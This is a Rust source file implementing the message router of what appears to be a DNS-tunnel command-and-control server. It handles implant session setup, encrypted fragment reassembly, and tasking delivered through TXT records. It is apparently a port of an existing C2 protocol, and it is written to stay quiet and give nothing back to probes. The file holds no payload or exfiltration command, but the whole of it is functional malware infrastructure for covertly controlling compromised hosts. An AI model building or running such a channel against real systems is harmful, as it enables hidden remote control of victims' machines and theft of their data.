//! Message Router (component F) — the protocol heart.
//!
//! Parses an incoming subdomain, classifies it by tag, dispatches to the
//! matching handler, and formats the TXT answer. Unknown tags and arity
//! mismatches are logged at debug level and answered empty without
//! touching any component state (spec §4.F, §7 — never echo attacker
//! input back, never leak via NXDOMAIN).

use crate::codec::{self, decode_b32, rejoin, Tag};
use crate::crypto::{aead_open, aead_seal};
use crate::envelope::Envelope;
use crate::error::TunnelError;
use crate::reassembly::IngestOutcome;
use crate::tunnel::Tunnel;

/// The plaintext of a `_sh` header: the reassembly block ID the implant
/// chose, and the number of fragments the announced block holds.
///
/// Wire layout chosen here (spec §4.F only specifies the decrypted shape
/// abstractly as `{block_id, size}`): `[id_len:1][id_bytes][size:4 LE]`.
struct BlockHeader {
    block_id: String,
    size: u32,
}

impl BlockHeader {
    fn decode(bytes: &[u8]) -> Option<Self> {
        let id_len = *bytes.first()? as usize;
        let id_bytes = bytes.get(1..1 + id_len)?;
        let size_bytes = bytes.get(1 + id_len..1 + id_len + 4)?;
        Some(Self {
            block_id: String::from_utf8(id_bytes.to_vec()).ok()?,
            size: u32::from_le_bytes(size_bytes.try_into().ok()?),
        })
    }

    #[cfg(test)]
    fn encode(block_id: &str, size: u32) -> Vec<u8> {
        let mut buf = Vec::with_capacity(1 + block_id.len() + 4);
        buf.push(block_id.len() as u8);
        buf.extend_from_slice(block_id.as_bytes());
        buf.extend_from_slice(&size.to_le_bytes());
        buf
    }
}

const STATUS_OK: &str = "0";
const STATUS_FAIL: &str = "1";

/// Handle one query name (already stripped of leading framing by the
/// listener) and return the TXT answer strings. An empty vec means "empty
/// answer" — the correct response to anything malformed, unrecognized, or
/// out of scope.
pub async fn handle_query(tunnel: &Tunnel, qname: &str) -> Vec<String> {
    let Some(fields) = codec::strip_apex(qname, &tunnel.apex) else {
        log::debug!("query is not a subdomain of the apex");
        return Vec::new();
    };

    let parsed = match codec::classify(fields) {
        Ok(parsed) => parsed,
        Err(TunnelError::UnknownTag) => {
            log::debug!("unknown tag in tunnel query");
            return Vec::new();
        }
        Err(_) => {
            log::debug!("malformed or arity-mismatched tunnel query");
            return Vec::new();
        }
    };

    match parsed.tag {
        Tag::DomainKey => handle_domain_key(tunnel).await,
        Tag::Block => handle_block(tunnel, &parsed.fields).await,
        Tag::ClearBlock => handle_clear_block(tunnel, &parsed.fields).await,
        Tag::SessionInit => handle_session_init(tunnel, &parsed.fields).await,
        Tag::SessionHeader => handle_session_header(tunnel, &parsed.fields).await,
        Tag::SessionMessage => handle_session_message(tunnel, &parsed.fields).await,
        Tag::SessionPoll => handle_session_poll(tunnel, &parsed.fields).await,
    }
}

/// `_<nonce>.<implant>._domainkey`: store the apex certificate PEM as a
/// send block, return its ID and chunk count.
async fn handle_domain_key(tunnel: &Tunnel) -> Vec<String> {
    let (block_id, count) = tunnel.send_store.store(tunnel.cert.cert_pem.as_bytes()).await;
    vec![format!("{block_id}.{count}")]
}

/// `_<nonce>.<start>.<stop>.<block_id>._b`: range-read a send block.
async fn handle_block(tunnel: &Tunnel, fields: &[String]) -> Vec<String> {
    let (start, stop, block_id) = (&fields[1], &fields[2], &fields[3]);
    let (Ok(start), Ok(stop)) = (start.parse::<usize>(), stop.parse::<usize>()) else {
        log::debug!("non-numeric range bounds in _b query");
        return Vec::new();
    };
    tunnel.send_store.range(block_id, start, stop).await
}

/// `_<nonce>.<block_id>._cb`: clear a send block.
async fn handle_clear_block(tunnel: &Tunnel, fields: &[String]) -> Vec<String> {
    let block_id = &fields[1];
    let existed = tunnel.send_store.clear(block_id).await;
    vec![if existed { STATUS_OK } else { STATUS_FAIL }.to_string()]
}

/// `_<nonce>.<rsa_sealed_key>.<implant>._si`: open a new session.
///
/// Crypto failures here follow the bootstrap policy (empty answer, not a
/// status string) since `_si` — like `_domainkey` — precedes any session
/// existing to report status against.
async fn handle_session_init(tunnel: &Tunnel, fields: &[String]) -> Vec<String> {
    let implant_name = fields.last().unwrap();
    let sealed_key_field = rejoin(&fields[1..fields.len() - 1]);

    let Ok(sealed_key) = decode_b32(&sealed_key_field) else {
        log::debug!("_si sealed key failed to decode");
        return Vec::new();
    };

    match tunnel.sessions.open(&tunnel.cert, &sealed_key, implant_name).await {
        Ok(sealed_id) => vec![sealed_id],
        Err(_) => {
            log::debug!("_si session open failed");
            Vec::new()
        }
    }
}

/// `_<nonce>.<sealed_header>.<session_id>._sh`: announce a reassembly
/// block.
async fn handle_session_header(tunnel: &Tunnel, fields: &[String]) -> Vec<String> {
    let session_id = fields.last().unwrap();
    let sealed_header_field = rejoin(&fields[1..fields.len() - 1]);

    let Some(session) = tunnel.sessions.lookup(session_id).await else {
        return vec![STATUS_FAIL.to_string()];
    };

    let Ok(sealed) = decode_b32(&sealed_header_field) else {
        return vec![STATUS_FAIL.to_string()];
    };
    let Ok(plaintext) = aead_open(&session.session_key, &sealed) else {
        return vec![STATUS_FAIL.to_string()];
    };
    let Some(header) = BlockHeader::decode(&plaintext) else {
        return vec![STATUS_FAIL.to_string()];
    };

    tunnel.reassembly.announce(&header.block_id, header.size as usize).await;
    let _ = tunnel.sessions.touch(session_id).await;
    vec![STATUS_OK.to_string()]
}

/// `_<nonce>.<seq|payload>.<header_id>.<session_id>.s`: ingest one
/// fragment. Arity here is exactly 4 logical fields — the original
/// source's bug tested `len(fields) == 2` while indexing up to
/// `fields[3]`; this implementation requires (and [`Tag::min_fields`]
/// enforces) the correct arity of 4.
async fn handle_session_message(tunnel: &Tunnel, fields: &[String]) -> Vec<String> {
    let session_id = fields.last().unwrap();
    let header_id_field = &fields[fields.len() - 2];
    let fragment_field = rejoin(&fields[1..fields.len() - 2]);

    let Some(session) = tunnel.sessions.lookup(session_id).await else {
        return vec![STATUS_FAIL.to_string()];
    };

    let Ok(header_id_bytes) = decode_b32(header_id_field) else {
        return vec![STATUS_FAIL.to_string()];
    };
    let Ok(block_id) = String::from_utf8(header_id_bytes) else {
        return vec![STATUS_FAIL.to_string()];
    };

    match tunnel.reassembly.ingest(&block_id, &[fragment_field]).await {
        Ok(IngestOutcome::Incomplete) => {
            let _ = tunnel.sessions.touch(session_id).await;
            vec![STATUS_OK.to_string()]
        }
        Ok(IngestOutcome::Complete(ciphertext)) => {
            let _ = tunnel.sessions.touch(session_id).await;
            let Ok(plaintext) = aead_open(&session.session_key, &ciphertext) else {
                return vec![STATUS_FAIL.to_string()];
            };
            let Ok(envelope) = Envelope::decode(&plaintext) else {
                return vec![STATUS_FAIL.to_string()];
            };
            session.deliver(envelope).await;
            vec![STATUS_OK.to_string()]
        }
        Err(_) => vec![STATUS_FAIL.to_string()],
    }
}

/// `_<nonce>.<session_id>._sp`: drain one outbound envelope, pre-chunk it
/// and hand back its block ID and count. An empty outbox answers empty —
/// not a failure status, since nothing went wrong (resolved open question,
/// see SPEC_FULL.md / DESIGN.md).
async fn handle_session_poll(tunnel: &Tunnel, fields: &[String]) -> Vec<String> {
    let session_id = &fields[1];
    let Some(session) = tunnel.sessions.lookup(session_id).await else {
        return Vec::new();
    };
    let Some(envelope) = session.drain_outbound().await else {
        return Vec::new();
    };

    let sealed = aead_seal(&session.session_key, &envelope.encode());
    let (block_id, count) = tunnel.send_store.store(&sealed).await;
    let _ = tunnel.sessions.touch(session_id).await;
    vec![format!("{block_id}.{count}")]
}
